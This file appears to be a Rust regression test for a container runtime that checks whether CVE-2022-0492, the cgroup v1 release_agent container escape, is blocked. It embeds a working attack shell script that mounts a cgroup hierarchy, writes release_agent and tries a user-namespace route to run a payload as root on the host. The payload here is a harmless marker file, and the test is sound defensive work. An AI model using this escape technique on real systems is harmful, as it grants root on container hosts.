//! CVE-2022-0492: cgroup v1 `release_agent`.
//!
//! Attack: a process that can mount a cgroup v1 hierarchy and write its
//! root's `release_agent` names a program there; when a cgroup with
//! `notify_on_release` becomes empty, the kernel runs that program *on the
//! host, as root*. The CVE: the kernel did not check capabilities for the
//! write, so `unshare -UrmC` (root of a new user namespace) was enough; the
//! classic privileged-container escape does the same with CAP_SYS_ADMIN.
//!
//! Defence: nothing in the container may mount or reach a writable v1 root:
//! crates/init/src/capabilities.rs applies exactly the configured
//! capabilities (no CAP_SYS_ADMIN by default; `drop_bounding` first, so
//! nothing comes back); crates/init/src/rootfs/mounts.rs
//! `mount_cgroups` shows only the container's own cgroup directories,
//! read-only, never a hierarchy root with `release_agent`; the user
//! namespace route is closed by the kernel fix (5.17+: CAP_SYS_ADMIN in the
//! initial user namespace), and ward's default seccomp profile denies
//! `mount` and `unshare(CLONE_NEWUSER)` on top.
//!
//! The container has Docker's default capabilities (as in the CVE): no
//! CAP_SYS_ADMIN, but CAP_SETFCAP (needed to map root in a new user
//! namespace since Linux 5.12) and CAP_DAC_OVERRIDE (a v1 root is mode
//! 0555).
//!
//! Safety: every attempt targets a private, named v1 hierarchy that the
//! test creates (mounted only in a helper's private mount namespace, so no
//! runtime on the host sees it), never a hierarchy of the host; the payload
//! is a script in the test's temp dir that writes a file there. Weakened
//! setup: the same container with CAP_SYS_ADMIN added (`--cap-add
//! SYS_ADMIN`, the classic privileged-container escape): the payload runs
//! on the host.

use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::Duration;

use ward_tests::{ctx, say, skip, Bundle, Ctx};

use crate::common::*;

/// Docker's default capabilities (checked against
/// testdata/reference/docker-default-capabilities.txt by ward-spec).
const DOCKER_CAPS: &[&str] = &ward_spec::caps::DOCKER_DEFAULT;

/// The attacker: mount the hierarchy by name (needs CAP_SYS_ADMIN), try
/// any release_agent under /sys/fs/cgroup, then the user-namespace route
/// (ward-probe). Each step prints what happened.
const SCRIPT: &str = r#"
attempt() { # $1 label, $2 mounted hierarchy root
    d="$2/x-$1"
    mkdir -p "$d" 2>/dev/null || { echo "$1: mkdir denied"; return; }
    echo 1 > "$d/notify_on_release" 2>/dev/null || echo "$1: notify_on_release denied"
    if echo "$PAYLOAD" > "$2/release_agent" 2>/dev/null; then echo "$1: release_agent WRITTEN"; else echo "$1: release_agent denied"; fi
    sh -c "echo \$\$ > $d/cgroup.procs" 2>/dev/null
    i=0; while [ $i -lt 20 ] && [ ! -e "/out/$PWNED" ]; do sleep 0.1; i=$((i+1)); done
    rmdir "$d" 2>/dev/null
}
mkdir -p /tmp/cg
if mount -t cgroup -o "none,name=$NAME" cgroup /tmp/cg 2>/dev/null; then
    echo "direct: mounted"; attempt direct /tmp/cg; umount /tmp/cg
else
    echo "direct: mount denied"
fi
for f in $(find /sys/fs/cgroup -name release_agent 2>/dev/null); do
    if (echo "$PAYLOAD" > "$f") 2>/dev/null; then echo "sysfs: $f WRITTEN"; else echo "sysfs: $f denied"; fi
done
/bin/ward-probe userns-release-agent "$NAME" "$PAYLOAD"
echo done
"#;

/// A named cgroup v1 hierarchy that exists only while a helper keeps it
/// mounted in its own private mount namespace.
struct Hierarchy {
    name: String,
    helper: Child,
    stop: PathBuf,
}

impl Hierarchy {
    /// A new hierarchy `ward-0492-<tag>-<pid>` (its `release_agent` starts
    /// empty: one per attack, so that one cannot inherit another's).
    fn create(ctx: &Ctx, tag: &str) -> Result<Hierarchy, String> {
        let name = format!("ward-0492-{tag}-{}", std::process::id());
        let dir = ctx.path(&format!("hier-{tag}"));
        let stop = ctx.path(&format!("hier-{tag}.stop"));
        let ready = ctx.path(&format!("hier-{tag}.ready"));
        mkdir(&dir);
        // Mount, signal ready, wait for stop, remove what the attacks left.
        // A v1 hierarchy outlives its last unmount when a child cgroup
        // still exists at that moment, and an rmdir'ed child stays listed
        // until the kernel has released it (asynchronously): so check that
        // the hierarchy is gone and, if not, mount it again and retry.
        let script = format!(
            "mount -t cgroup -o none,name={name} cgroup {d} || exit 1; touch {r}; \
             while [ ! -e {s} ]; do sleep 0.05; done; \
             for i in 1 2 3 4 5 6 7 8 9 10; do \
               rmdir {d}/x-* 2>/dev/null; sleep 0.2; umount {d}; \
               grep -q ':name={name}:' /proc/self/cgroup || exit 0; \
               mount -t cgroup -o none,name={name} cgroup {d} || exit 1; \
             done; exit 1",
            d = dir.display(),
            r = ready.display(),
            s = stop.display()
        );
        let helper = Command::new("unshare")
            .args(["-m", "--propagation", "private", "sh", "-c", &script])
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .map_err(|e| format!("unshare: {e}"))?;
        let mut h = Hierarchy { name, helper, stop };
        let ok = wait_until(Duration::from_secs(5), || {
            ready.exists() || matches!(h.helper.try_wait(), Ok(Some(_)))
        });
        if !ok || !ready.exists() {
            return Err("cannot mount a named cgroup v1 hierarchy here (no cgroup v1?)".into());
        }
        Ok(h)
    }
}

impl Drop for Hierarchy {
    fn drop(&mut self) {
        write(&self.stop, "");
        let done = wait_until(Duration::from_secs(10), || {
            matches!(self.helper.try_wait(), Ok(Some(_)))
        });
        if !done {
            let _ = self.helper.kill();
            let _ = self.helper.wait();
        }
    }
}

/// A payload script that writes `out/<name>` on the host; returns (script,
/// that file).
fn payload(ctx: &Ctx, out: &Path, name: &str) -> (PathBuf, PathBuf) {
    let pwned = out.join(name);
    let script = ctx.path(&format!("payload-{name}.sh"));
    write(
        &script,
        &format!(
            "#!/bin/sh\necho \"release agent ran on the host as uid $(id -u) for $1\" > {}\n",
            pwned.display()
        ),
    );
    chmod(&script, 0o755);
    (script, pwned)
}

/// The attacker's container; `payload` is (script, the file it writes).
fn bundle(
    ctx: &Ctx,
    h: &Hierarchy,
    out: &Path,
    payload: &(PathBuf, PathBuf),
    extra_caps: &[&str],
) -> Bundle {
    let mut b = ctx.bundle(&[]);
    install_probe(&b);
    mkdir(out);
    bind(&mut b, out, "/out", &["rw"]);
    b.mount(ward_tests::json!({
        "destination": "/tmp", "type": "tmpfs", "source": "tmpfs", "options": ["nosuid", "nodev"]
    }));
    let mut c = DOCKER_CAPS.to_vec();
    c.extend_from_slice(extra_caps);
    caps(&mut b, &c, &[]);
    let mut env: Vec<String> = b.config["process"]["env"]
        .as_array()
        .map(|a| {
            a.iter()
                .filter_map(|v| v.as_str().map(String::from))
                .collect()
        })
        .unwrap_or_default();
    env.push(format!("NAME={}", h.name));
    env.push(format!("PAYLOAD={}", payload.0.display()));
    let pwned = payload.1.file_name().and_then(|n| n.to_str()).unwrap_or("");
    env.push(format!("PWNED={pwned}"));
    b.config["process"]["env"] = ward_tests::json!(env);
    b.sh(SCRIPT);
    b
}

#[test]
fn release_agent_cannot_be_set_from_the_container() {
    let ctx = ctx!("cve-2022-0492");
    let weak_h = match Hierarchy::create(&ctx, "w") {
        Ok(h) => h,
        Err(e) => skip!(ctx, "{e}"),
    };
    let out = ctx.path("out");
    mkdir(&out);
    // One payload (and one hierarchy) per attack: a late release
    // notification of the weakened attack cannot be taken for the real one.
    let weak_payload = payload(&ctx, &out, "pwned-weakened");
    let weak_pwned = weak_payload.1.clone();
    let real_payload = payload(&ctx, &out, "pwned");
    let pwned = real_payload.1.clone();

    // Weakened: a privileged container (CAP_SYS_ADMIN).
    let b = bundle(&ctx, &weak_h, &out, &weak_payload, &["CAP_SYS_ADMIN"]);
    // ward's default policy refuses CAP_SYS_ADMIN without seccomp.
    let o = ctx.run_weakened(&b, &ctx.id("0492w"), &["seccomp.unconfined-sys-admin"]);
    wait_until(Duration::from_secs(2), || weak_pwned.exists());
    let setup = "the same container with CAP_SYS_ADMIN";
    if weak_pwned.exists() {
        weakened_works(&ctx.name, setup, read(&weak_pwned).trim());
    } else {
        weakened_skip(&ctx.name, setup, &format!("not reproduced: {o}"));
    }

    drop(weak_h);

    // The runtime under test with Docker's default capabilities.
    let h = Hierarchy::create(&ctx, "s").expect("a second hierarchy");
    let b = bundle(&ctx, &h, &out, &real_payload, &[]);
    let o = run(&ctx, &b, "0492").ok();
    wait_until(Duration::from_secs(1), || pwned.exists());
    say(&format!(
        "{}: attacker: {}",
        ctx.name,
        o.stdout.trim().replace('\n', " | ")
    ));
    assert!(
        !pwned.exists(),
        "the release agent ran on the host: {:?}\n{o}",
        read(&pwned)
    );
    assert!(o.stdout.contains("done"), "{o}");
    assert!(o.stdout.contains("direct: mount denied"), "{o}");
    assert!(!o.stdout.contains("WRITTEN"), "{o}");
    assert!(!o.stdout.contains("userns: release_agent: ok"), "{o}");
}
